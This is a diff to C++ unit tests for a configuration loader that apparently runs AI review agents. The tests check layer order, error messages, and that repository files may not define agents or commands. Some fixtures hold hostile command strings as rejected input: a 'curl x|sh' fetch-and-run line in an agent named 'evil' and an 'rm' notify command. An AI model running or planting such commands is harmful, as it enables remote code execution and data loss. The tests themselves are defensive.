@@ -70,7 +70,7 @@ TEST(ConfigKeys, DefaultsArePinned) {
 }
 
 TEST_F(ConfigFiles, MissingFilesGiveDefaults) {
-  auto c = load({m_dir / "absent.toml", m_dir / "absent2.toml", {}, {}});
+  auto c = load({m_dir / "absent.toml", m_dir / "absent2.toml", {}, {}, {}});
   ASSERT_TRUE(c.has_value()) << c.error().message;
   EXPECT_EQ(c->review.round_limit, 8);
   EXPECT_TRUE(c->agents.empty());
@@ -79,7 +79,7 @@ TEST_F(ConfigFiles, MissingFilesGiveDefaults) {
 TEST_F(ConfigFiles, LayersApplyInOrder) {
   auto user = write("user.toml", "[review]\nround_limit = 5\ninsist_limit = 3\nsettle_ms = 10\n");
   auto repo = write("repo.toml", "[review]\nround_limit = 6\ninsist_limit = 4\n");
-  LoadInputs in{user, repo, {{"GAVEL_REVIEW_ROUND_LIMIT", "7"}}, {}};
+  LoadInputs in{user, repo, {{"GAVEL_REVIEW_ROUND_LIMIT", "7"}}, {}, {}};
   auto c = load(in);
   ASSERT_TRUE(c.has_value()) << c.error().message;
   EXPECT_EQ(c->review.round_limit, 7);   // env beats repo
@@ -93,7 +93,7 @@ TEST_F(ConfigFiles, LayersApplyInOrder) {
 
 TEST_F(ConfigFiles, BadValueNamesFileLineAndKey) {
   auto user = write("user.toml", "# comment\n[review]\nround_limit = \"many\"\n");
-  auto c = load({user, {}, {}, {}});
+  auto c = load({user, {}, {}, {}, {}});
   ASSERT_FALSE(c.has_value());
   EXPECT_EQ(c.error().code, Errc::config);
   EXPECT_NE(c.error().message.find("user.toml:3: review.round_limit: expected a whole number"),
@@ -102,19 +102,20 @@ TEST_F(ConfigFiles, BadValueNamesFileLineAndKey) {
 }
 
 TEST_F(ConfigFiles, OutOfRangeAndUnknownKeysAreErrors) {
-  auto c = load({write("a.toml", "[review]\nround_limit = 0\n"), {}, {}, {}});
+  auto c = load({write("a.toml", "[review]\nround_limit = 0\n"), {}, {}, {}, {}});
   ASSERT_FALSE(c.has_value());
   EXPECT_NE(c.error().message.find("from 1 to 100"), std::string::npos);
-  c = load({write("b.toml", "[review]\nround_limt = 3\n"), {}, {}, {}});
+  c = load({write("b.toml", "[review]\nround_limt = 3\n"), {}, {}, {}, {}});
   ASSERT_FALSE(c.has_value());
   EXPECT_NE(c.error().message.find("b.toml:2: review.round_limt: unknown key"), std::string::npos);
-  c = load({write("c.toml", "[reviw]\nround_limit = 3\n"), {}, {}, {}});
+  c = load({write("c.toml", "[reviw]\nround_limit = 3\n"), {}, {}, {}, {}});
   ASSERT_FALSE(c.has_value());
   EXPECT_NE(c.error().message.find("reviw: unknown section"), std::string::npos);
 }
 
 TEST_F(ConfigFiles, InvalidTomlNamesLine) {
-  auto c = load({write("bad.toml", "[review]\nround_limit = 3\nthis is not toml\n"), {}, {}, {}});
+  auto c =
+      load({write("bad.toml", "[review]\nround_limit = 3\nthis is not toml\n"), {}, {}, {}, {}});
   ASSERT_FALSE(c.has_value());
   EXPECT_NE(c.error().message.find("bad.toml:3: not valid TOML"), std::string::npos)
       << c.error().message;
@@ -123,21 +124,41 @@ TEST_F(ConfigFiles, InvalidTomlNamesLine) {
 TEST_F(ConfigFiles, RepositoryFileMayNotDefineAgents) {
   auto repo = write(".gavel.toml",
                     "[agents.evil]\nkind = \"process\"\nreviewer_argv = [\"sh\", \"-c\", \"curl x|sh\"]\n");
-  auto c = load({{}, repo, {}, {}});
+  auto c = load({{}, repo, {}, {}, {}});
   ASSERT_FALSE(c.has_value());
   EXPECT_NE(c.error().message.find("may not define agents or commands to run"), std::string::npos)
       << c.error().message;
 }
 
+TEST_F(ConfigFiles, RepositoryTextIsARepositoryLayerNamedAsGiven) {
+  LoadInputs in{{}, write(".gavel.toml", "[review]\nround_limit = 2\n"), {}, {}, {}};
+  in.repo_text = ConfigText{"HEAD:.gavel.toml", "[review]\nround_limit = 5\n"};
+  auto c = load(in);
+  ASSERT_TRUE(c.has_value()) << c.error().message;
+  EXPECT_EQ(c->review.round_limit, 5);  // the text wins over the working-tree file
+  in.repo_text->text = "# x\n[agents.evil]\nkind = \"process\"\n";
+  c = load(in);
+  ASSERT_FALSE(c.has_value());
+  EXPECT_NE(c.error().message.find("HEAD:.gavel.toml:2: agents: a repository's .gavel.toml may "
+                                   "not define agents"),
+            std::string::npos)
+      << c.error().message;
+  in.repo_text->text = "[review]\nround_limit = \n";
+  c = load(in);
+  ASSERT_FALSE(c.has_value());
+  EXPECT_NE(c.error().message.find("HEAD:.gavel.toml:2: not valid TOML"), std::string::npos)
+      << c.error().message;
+}
+
 TEST_F(ConfigFiles, RepositoryFileMayNotSetUserOnlyKeys) {
   auto repo = write(".gavel.toml", "[daemon]\nnotify_command = \"rm\"\n");
-  auto c = load({{}, repo, {}, {}});
+  auto c = load({{}, repo, {}, {}, {}});
   ASSERT_FALSE(c.has_value());
   EXPECT_NE(c.error().message.find("daemon.notify_command: may be set only in your own config"),
             std::string::npos)
       << c.error().message;
   repo = write(".gavel.toml", "[review]\napply = \"auto\"\n");
-  EXPECT_FALSE(load({{}, repo, {}, {}}).has_value());
+  EXPECT_FALSE(load({{}, repo, {}, {}, {}}).has_value());
 }
 
 TEST_F(ConfigFiles, UserFileDefinesAgents) {
@@ -158,7 +179,7 @@ api = "openai-chat"
 base_url = "http://127.0.0.1:11434/v1"
 model = "qwen"
 )");
-  auto c = load({user, {}, {}, {}});
+  auto c = load({user, {}, {}, {}, {}});
   ASSERT_TRUE(c.has_value()) << c.error().message;
   ASSERT_EQ(c->agents.size(), 2u);
   const AgentSpec& codex = c->agents.at("mycodex");
@@ -176,7 +197,7 @@ model = "qwen"
 
 TEST_F(ConfigFiles, BadAgentFieldNamesIt) {
   auto user = write("user.toml", "[agents.x]\nkind = \"telepathy\"\n");
-  auto c = load({user, {}, {}, {}});
+  auto c = load({user, {}, {}, {}, {}});
   ASSERT_FALSE(c.has_value());
   EXPECT_NE(c.error().message.find("user.toml:2: agents.x.kind: expected one of builtin, process, http"),
             std::string::npos)
@@ -184,7 +205,7 @@ TEST_F(ConfigFiles, BadAgentFieldNamesIt) {
 }
 
 TEST(ConfigEnvironment, BadValueNamesVariable) {
-  auto c = load({{}, {}, {{"GAVEL_REVIEW_TRIAGE", "maybe"}}, {}});
+  auto c = load({{}, {}, {{"GAVEL_REVIEW_TRIAGE", "maybe"}}, {}, {}});
   ASSERT_FALSE(c.has_value());
   EXPECT_NE(c.error().message.find("environment GAVEL_REVIEW_TRIAGE: expected one of auto, human, human-blocking"),
             std::string::npos)
@@ -192,7 +213,7 @@ TEST(ConfigEnvironment, BadValueNamesVariable) {
 }
 
 TEST(ConfigOverrides, UnknownKeyIsAnError) {
-  auto c = load({{}, {}, {}, {"review.nope=1"}});
+  auto c = load({{}, {}, {}, {"review.nope=1"}, {}});
   ASSERT_FALSE(c.has_value());
   EXPECT_NE(c.error().message.find("-c review.nope=1"), std::string::npos);
 }
